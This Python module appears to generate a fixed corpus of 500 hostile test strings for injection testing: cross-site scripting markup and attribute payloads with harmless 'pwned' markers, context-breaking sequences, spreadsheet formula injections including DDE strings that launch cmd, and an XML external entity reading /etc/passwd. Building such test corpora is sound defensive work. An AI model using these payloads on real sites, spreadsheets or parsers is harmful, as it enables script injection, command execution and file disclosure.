"""Five hundred hostile strings: markup and scripts in every place of a page, formulas of spreadsheets, what breaks
lines, and combinations of them. Each script, if it ran, would set `window.pwned` or change the title to "pwned".

Made by rule from parts of our own, always the same.
"""

from __future__ import annotations

from itertools import cycle, islice, product

COUNT = 500
RUN = ("pwned=1", "window.pwned=1", "document.title='pwned'", "top.pwned=1;alert(1)")

# `{}` is where the script goes.
MARKUP = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT\n>", "<script src='data:text/javascript,{}'></script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'//", "<svg onload={}>", "<svg/onload='{}'>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src='javascript:parent.{}'></iframe>",
    "<a href='javascript:{}'>open</a>", "<a href=\"java\tscript:{}\" autofocus onfocus={}>x</a>",
    "<form action='javascript:{}'><button>go</button></form>", "<input autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<marquee onstart={}>",
    "<math><mtext></mtext><style><img src=x onerror={}></style></math>", "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>", "<base href='javascript:{}//'>", "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<p style='background:url(javascript:{})' onmouseover={}>x", "<isindex action='javascript:{}' type=image>",
)  # fmt: skip
# What ends the element, attribute, comment, script or template that a text may stand in.
OUT_OF = (
    '">', "'>", "</title>", "</textarea>", "</script>", "--><!-- -->", "]]>", "</style>", "</bdi></p></article>",
    "\"'`>", "</option></select>", "{{7*7}}{% raw %}", "${pwned=1}", "\u2028", "\r\n\r\n", "\x00", "\ufeff",
    "\u202e", "&lt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "\ud83d", "java\x00script:",
)  # fmt: skip
ATTRIBUTES = (
    "\" onmouseover=\"{}\" x=\"", "' onfocus='{}' autofocus x='", "` onload=`{}` ", "\" autofocus onfocus={} \"",
    "x onerror={} ", "\" style=\"animation-name:x\" onanimationstart=\"{}\" ", "javascript:{}", " javascript:{}",
    "java\nscript:{}", "data:text/html,<script>opener.{}</script>", "vbscript:{}", "JaVaScRiPt://%0a{}",
    "https://x.example/\"onclick=\"{}", "https://x.example/'><script>{}</script>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://x.example\",\"open\")",
    "\t=1+1", "\r=1+1", " =1+1", "\"=1+1", "＝1+1", "＋1", "−1+1", "=IMPORTXML(\"https://x.example\",\"//a\")",
    ";=1+1", ",=1+1", "x\n=1+1", "x\r\n@SUM(1)", "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "«=1+1",
)  # fmt: skip
XML = (
    "]]><x xmlns='http://www.w3.org/1999/xhtml'><script>pwned=1</script>",
    "<?xml-stylesheet href='javascript:pwned=1'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<entry><id>pwned</id></entry>", "\x0b\x0c\x1b[31m",
    "\ufffe\uffff",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    scripts = cycle(RUN)
    made = [
        *(form.replace("{}", next(scripts)) for form in (*MARKUP, *ATTRIBUTES)), *FORMULAS, *XML, *OUT_OF,
        *(f"{formula} {form.replace('{}', next(scripts))}" for formula, form in product(FORMULAS, MARKUP[:6])),
    ]  # fmt: skip
    pairs = [out + form.replace("{}", next(scripts)) for form, out in product(MARKUP, OUT_OF)]
    made += pairs[::2] + pairs[1::2]
    return list(islice(dict.fromkeys(made), COUNT))
